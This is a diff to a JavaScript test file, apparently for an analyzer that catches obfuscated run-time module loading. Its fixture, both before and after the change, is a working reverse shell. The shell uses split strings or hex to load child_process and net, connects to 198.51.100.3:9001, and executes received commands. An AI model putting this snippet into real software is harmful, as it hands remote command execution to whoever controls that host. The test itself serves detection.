@@ -62,9 +62,9 @@ describe('what a program spells at run time', () => {
 
   it('is judged, and the evidence points at the line that was written', async () => {
     const code = [
-      "const m = (s) => require(Buffer.from(s, 'hex').toString());",
-      "const c = m('6368696c645f70726f63657373');",
-      "const k = m('6e6574')['con' + 'nect'](9001, '198.51.100.3');",
+      "'use strict';",
+      "const c = require('child_' + 'process');",
+      "const k = require('n' + 'et')['con' + 'nect'](9001, '198.51.100.3');",
       "k.on('data', (d) => c['ex' + 'ec'](d.toString(), (e, o) => k.write(o)));",
     ].join('\n');
     const file = new SourceFile(await parse(code, 'javascript'));
